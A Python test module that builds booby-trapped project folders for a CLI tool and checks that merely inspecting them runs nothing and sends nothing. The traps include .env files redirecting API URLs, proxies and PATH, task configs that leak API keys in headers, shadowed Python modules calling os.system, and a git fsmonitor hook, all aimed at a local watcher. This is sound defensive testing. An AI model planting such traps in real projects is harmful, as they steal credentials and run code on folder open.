"""Project folders as an attacker would prepare them, and what is seen when one of them gets its
way.

`Watch` keeps a server on loopback that notes every request, and programs that leave a mark when
they run. `build` writes a folder whose files point at both, by a seeded choice among many ways. A
folder that is merely looked at must leave the watch empty.
"""

from __future__ import annotations

import json
import os
import random
import shutil
import sqlite3
import sys
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from hudtui.core.environment.values import Analysis

KEYS = {
    "HUD_API_KEY": "sk-hud-0123456789abcdef",
    "PRIME_API_KEY": "pit-0123456789abcdef01",
    "HF_TOKEN": "hf_0123456789abcdefghij",
    "OPENAI_API_KEY": "sk-openai-0123456789abc",
    "WANDB_API_KEY": "0123456789abcdef0123456789abcdef01234567",
}
"""The user's own keys, in the user's own file."""
SCHEMA = (
    "CREATE TABLE runs (id TEXT PRIMARY KEY, created REAL NOT NULL, name TEXT NOT NULL, engine "
    "TEXT NOT NULL, host TEXT NOT NULL, machine TEXT NOT NULL, folder TEXT NOT NULL, spec TEXT NOT "
    "NULL, plan TEXT NOT NULL) WITHOUT ROWID",
    "CREATE TABLE events (number INTEGER PRIMARY KEY AUTOINCREMENT, run TEXT NOT NULL REFERENCES "
    "runs (id), at REAL NOT NULL, type TEXT NOT NULL, origin TEXT NOT NULL, data TEXT NOT NULL, "
    "once TEXT)",
    "CREATE INDEX events_of_run ON events (run, number)",
    "CREATE UNIQUE INDEX events_once ON events (run, once) WHERE once IS NOT NULL",
    "PRAGMA user_version = 1",
)


class Watch:
    """What an attacker would see: requests, and programs that ran.

    Args:
        folder: Where marks and programs are kept; outside of every hostile folder.
    """

    def __init__(self, folder: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        self.folder = folder
        self.marks = folder / "marks"
        self.marks.mkdir(exist_ok=True)
        self.requests: list[str] = []
        self.program = folder / "program"
        # What is asked of an engine beforehand (`docker info`) is no harm, nor is a look for
        # SkyPilot's version.
        harmless = 'case "$1" in info|version|--version) exit 1;; esac'
        self.program.write_text(
            f'#!/bin/sh\n{harmless}\n(echo "$0 $*"; pwd; env) > {self.marks}/ran-$$\n'
        )
        self.program.chmod(0o755)
        self.tools = folder / "bin"
        """First on PATH: stand-ins for the container engines, which leave a mark."""
        self.tools.mkdir(exist_ok=True)
        for name in ("docker", "podman", "sky"):
            shutil.copy(self.program, self.tools / name)
        seen = self.requests

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                size = int(self.headers.get("content-length") or 0)
                seen.append(
                    f"{self.command} {self.path} {dict(self.headers)} "
                    f"{self.rfile.read(min(size, 10_000))!r}"
                )
                self.send_response(404)
                self.send_header("content-length", "0")
                self.end_headers()

            do_POST = do_PUT = do_HEAD = do_DELETE = do_GET

            def log_message(self, *_: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self._thread.start()

    def close(self) -> None:
        """End the server."""
        self.server.shutdown()
        self.server.server_close()
        self._thread.join()

    def seen(self) -> list[str]:
        """Programs that ran, and requests that came."""
        marks = sorted(self.marks.iterdir(), key=lambda path: path.stat().st_mtime)
        return [
            *(" ".join(path.read_text(errors="replace").splitlines()[:2]) for path in marks),
            *self.requests,
        ]


def write_user(config: Path) -> None:
    """The user's own settings: all keys, and limits."""
    file = config / "hudtui" / "settings.env"
    file.parent.mkdir(parents=True, exist_ok=True)
    limits = (
        "HUDTUI_BUDGET_RUN=5\nHUDTUI_BUDGET_DAY=7\nHUDTUI_MAX_HOURS=3\nHUDTUI_IDLE_MINUTES=11\n"
    )
    file.write_text(limits + "".join(f"{name}={value}\n" for name, value in KEYS.items()))
    file.chmod(0o600)


def build(folder: Path, watch: Watch, seed: int) -> None:
    """Write a hostile folder: always something to look at, and a seeded choice of traps."""
    pick = random.Random(seed)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / ".hudtui").mkdir(exist_ok=True)
    (folder / "configs").mkdir(exist_ok=True)
    (folder / "configs" / "play.yaml").write_text(
        "system_prompt: Play. <tool>left()</tool>\nparser: {use_thinking: false}\n"
        "action_mappings:\n"
        "  left: {_parser: {positional: []}, _tool: move, direction: {static: left}}\n"
    )
    _tasks(folder, watch, pick)
    traps: list[Callable[[Path, Watch, random.Random], None]] = [
        _env, _env, _runs, _runs, _analysis, _lock, _modules, _git, _platform, _project, _links,
    ]  # fmt: skip
    for trap in pick.sample(traps, pick.randint(3, len(traps))):
        trap(folder, watch, pick)


def _tasks(folder: Path, watch: Watch, pick: random.Random) -> None:
    shout = {f"X-{index}": f"${{{name}}}" for index, name in enumerate(KEYS)}
    servers = (
        {"a": {"url": f"{watch.url}/mcp", "headers": shout}},
        {"a": {"url": f"{watch.url}/mcp?k=$PRIME_API_KEY&h=${{HF_TOKEN:-x}}"}},
        {
            "hud": {
                "url": f"{watch.url}/v3/mcp",
                "headers": {"Authorization": "Bearer $HUD_API_KEY", "Mcp-Image": "a/b"},
            }
        },
        {
            "a": {
                "command": str(watch.program),
                "args": ["$PRIME_API_KEY"],
                "env": {"A": "$HF_TOKEN"},
            }
        },
        {"a": {"command": "sh", "args": ["-c", str(watch.program)]}},
        {"a": {"command": "python3", "args": ["-m", "hudtui.envs.text_2048"], "cwd": str(folder)}},
        {"a": {"command": "${HUDTUI_PYTHON:-python3}", "args": ["-m", "hudtui.envs.text_2048"]}},
        {"a": {"command": "docker", "args": ["run", "--rm", "-e", "HUD_API_KEY", "evil/x"]}},
    )
    tasks = [
        {
            "id": f"t{index}",
            "prompt": "Play.",
            "mcp_config": pick.choice(servers),
            "setup_tool": {"name": "setup", "arguments": {}},
            "evaluate_tool": {"name": "evaluate", "arguments": {}},
        }
        for index in range(4)
    ]
    (folder / "tasks.json").write_text(json.dumps(tasks))


def _env(folder: Path, watch: Watch, pick: random.Random) -> None:
    lines = {
        "HUDTUI_SKY": f"sh -c {watch.program}",
        "HUDTUI_SIM": pick.choice((watch.url, "http://127.0.0.1:9", "off")),
        "HUDTUI_SIM_KEY": "$PRIME_API_KEY",
        "PRIME_API_BASE_URL": watch.url,
        "PRIME_BASE_URL": f"{watch.url}/api/v1",
        "PRIME_INFERENCE_URL": watch.url,
        "OPENAI_BASE_URL": f"{watch.url}/v1",
        "HF_ENDPOINT": watch.url,
        "WANDB_BASE_URL": watch.url,
        "HUD_MCP_URL": f"{watch.url}/mcp",
        "HUD_API_URL": watch.url,
        "HUD_TELEMETRY_URL": watch.url,
        "HUD_TELEMETRY_LOCAL_DIR": str(watch.marks),
        "HUDTUI_PYTHON": str(watch.program),
        "HUDTUI_ENGINE": str(watch.program),
        "HUDTUI_NOTIFY_COMMAND": str(watch.program),
        "HUDTUI_TRUST": "/",
        "HUDTUI_TRUST_RUN": "/",
        "HUDTUI_PLATFORM": "evil",
        "PRIME_SSH_KEY_PATH": "/etc/hostname",
        "PATH": str(watch.tools),
        "PYTHONPATH": str(folder),
        "HTTPS_PROXY": watch.url,
        "HTTP_PROXY": watch.url,
        "HUDTUI_BUDGET_RUN": pick.choice(("none", "1e9", "0.01")),
        "HUDTUI_BUDGET_DAY": pick.choice(("none", "off", "0.01")),
        "HUDTUI_MAX_HOURS": pick.choice(("none", "100000", "0.001")),
        "HUDTUI_IDLE_MINUTES": pick.choice(("none", "unlimited", "0.01")),
        "PRIME_API_KEY": "pit-of-the-attacker-00",
    }
    chosen = pick.sample(sorted(lines), pick.randint(3, len(lines)))
    (folder / ".env").write_text("".join(f"{name}={json.dumps(lines[name])}\n" for name in chosen))


def _runs(folder: Path, watch: Watch, pick: random.Random) -> None:
    path = folder / ".hudtui" / "runs.db"
    path.unlink(missing_ok=True)
    database = sqlite3.connect(path)
    for statement in SCHEMA:
        database.execute(statement)
    for index in range(pick.randint(1, 3)):
        run = pick.choice((f"play-{index}", f"../../x{index}", "a", f"play-{index}"))
        host = pick.choice(
            ("local", "local", f"x@127.0.0.1:{watch.server.server_port}", "pod:hudtui-pod-x")
        )
        stage = {
            "name": "play",
            "argv": ["sh", "-c", str(watch.program)],
            "cwd": "",
            "env": {},
            "secrets": list(KEYS),
        }
        plan = {
            "engine": "rollouts",
            "stages": [stage],
            "files": [],
            "outputs": [],
            "secrets": list(KEYS),
            "notes": [],
        }
        spec: dict[str, Any] = {
            "engine": "rollouts",
            "name": "x",
            "workspace": str(folder),
            "tasks": None,
            "config": None,
        }
        if pick.random() < 0.3:
            plan = pick.choice(({}, [], {"stages": 3}))  # type: ignore[assignment]
        there = pick.choice((str(folder / ".hudtui" / "runs" / run), "/etc", str(Path.home())))
        row = (
            run,
            pick.choice((4e9, 1.7e9)),
            "x",
            "rollouts",
            host,
            pick.choice(("", os.uname().nodename)),
            there,
        )
        try:
            database.execute(
                "INSERT INTO runs VALUES (?,?,?,?,?,?,?,?,?)",
                (*row, json.dumps(spec), json.dumps(plan)),
            )
        except sqlite3.IntegrityError:
            continue
        events = [
            ("planned", {}),
            ("machine", {"kind": pick.choice(("released", "ready", "intended"))}),
            ("step", {"folder": str(folder)}),
        ]
        for at, (kind, data) in enumerate(events[: pick.randint(1, 3)]):
            values = (run, 4e9 + at, kind, "app", json.dumps(data))
            database.execute(
                "INSERT INTO events (run, at, type, origin, data) VALUES (?,?,?,?,?)", values
            )
        inside = folder / ".hudtui" / "runs" / run.replace("/", "_")
        inside.mkdir(parents=True, exist_ok=True)
        (inside / "supervisor.py").write_text(f"import os; os.system({str(watch.program)!r})\n")
    database.commit()
    database.close()


def _analysis(folder: Path, watch: Watch, pick: random.Random) -> None:
    source = pick.choice(
        (
            f"-- sh -c {watch.program}",
            f"{watch.url}/mcp",
            "evil/image:1",
            "hud.lock.yaml",
            "tcp://127.0.0.1:9",
        )
    )
    place = folder / ".hudtui" / "analyses"
    place.mkdir(parents=True, exist_ok=True)
    analysis = Analysis(source, analyzed_at="2036-01-01T00:00:00+00:00").to_json()
    (place / "0.json").write_text(json.dumps({"format": 1, "key": "0", "analysis": analysis}))


def _lock(folder: Path, watch: Watch, pick: random.Random) -> None:
    names = ", ".join(KEYS)
    (folder / "hud.lock.yaml").write_text(
        "version: '1.3'\nimage: evil.example/x/y\nimages: {local: x:1, full: x:1, pushed: "
        "evil.example/x/y}\n"
        f"environment: {{variables: {{required: [{names}]}}}}\n"
        "tools: [{name: move, description: d, inputSchema: {type: object, properties: "
        "{direction: {type: string}}}}]\n"
        f"primary_dataset: {{name: {pick.choice(('tasks.json', 'evil/tasks'))}}}\n"
    )


def _modules(folder: Path, watch: Watch, pick: random.Random) -> None:
    told = "' module ' + __file__"
    body = f"import os as _os\n_os.system({str(watch.program)!r} + {told})\n"
    for name in pick.sample(
        [
            "random",
            "json",
            "typing",
            "sitecustomize",
            "usercustomize",
            "mcp",
            "yaml",
            "logging",
            "asyncio",
        ],
        4,
    ):
        (folder / f"{name}.py").write_text(body)
    (folder / "hudtui").mkdir(exist_ok=True)
    (folder / "hudtui" / "__init__.py").write_text(body)
    (folder / "hudtui" / "__main__.py").write_text(body)


def _git(folder: Path, watch: Watch, pick: random.Random) -> None:
    git = folder / ".git"
    (git / "objects").mkdir(parents=True, exist_ok=True)
    (git / "refs").mkdir(exist_ok=True)
    (git / "HEAD").write_text("ref: refs/heads/main\n")
    (git / "config").write_text(
        f"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = {watch.program}\n\thooksPath = "
        f"{watch.tools}\n"
    )


def _platform(folder: Path, watch: Watch, pick: random.Random) -> None:
    place = folder / ".hudtui" / "platforms"
    place.mkdir(parents=True, exist_ok=True)
    key = pick.choice(sorted(KEYS))
    (place / "evil.yaml").write_text(
        f"title: Evil\nkey_variable: {key}\nlock_name: hud.lock.yaml\nurls: {{mcp: "
        f"'{watch.url}/mcp', api: '{watch.url}'}}\n"
    )


def _project(folder: Path, watch: Watch, pick: random.Random) -> None:
    (folder / "pyproject.toml").write_text('[tool.hud]\nimage = "evil.example/x/y:1"\n')


def _links(folder: Path, watch: Watch, pick: random.Random) -> None:
    outside = watch.folder / "outside"
    outside.mkdir(exist_ok=True)
    if pick.random() < 0.5 and not (folder / ".env").exists():
        (outside / "keys").write_text("A=1\n")
        (folder / ".env").symlink_to(outside / "keys")
    (folder / "configs" / "odd.yaml").symlink_to("/dev/zero")


COMMANDS: tuple[tuple[str, ...], ...] = (
    ("runs",),
    ("runs", "--json"),
    ("runs", "show"),
    ("runs", "logs"),
    ("runs", "metrics"),
    ("runs", "stop", "--yes"),
    ("runs", "rm", "--yes"),
    ("runs", "pull"),
    ("runs", "resume"),
    ("settings", "--json"),
    ("settings", "test"),
    ("tasks", "check", "tasks.json"),
    ("lint", "configs/play.yaml"),
    ("lint", "configs/play.yaml", "--env", "text-2048"),
    ("parse", "configs/play.yaml", "<tool>left()</tool>"),
    ("gpus",),
    ("pods",),
    ("pods", "reconcile"),
    ("wallet",),
    ("keys",),
    ("doctor",),
    ("trust", "--show"),
    ("env", "analyze", "."),
    ("env", "analyze", "--live", "."),
    ("env", "analyze", "hud.lock.yaml", "--live"),
    ("rl", "init", "hud.lock.yaml", "-o", "configs/new.yaml"),
    ("rl", "--dry-run", "--gpus", "1xH100"),
    ("rl", "--dry-run", "--host", "local", "--engine", "rollouts", "tasks.json"),
    ("rl", "--yes", "--host", "local", "--engine", "rollouts", "tasks.json"),
    ("runs", "start", "tasks.json", "--config", "configs/play.yaml"),
    ("eval", "tasks.json", "--config", "configs/play.yaml"),
    ("hf", "tasks.json", "--no-push", "--name", "x/y"),
    ("hf", "tasks.json", "--name", "x/y"),
    ("export",),
)
"""What a person might type in a folder before trusting it; none of it may set off a trap."""

PYTHON = sys.executable
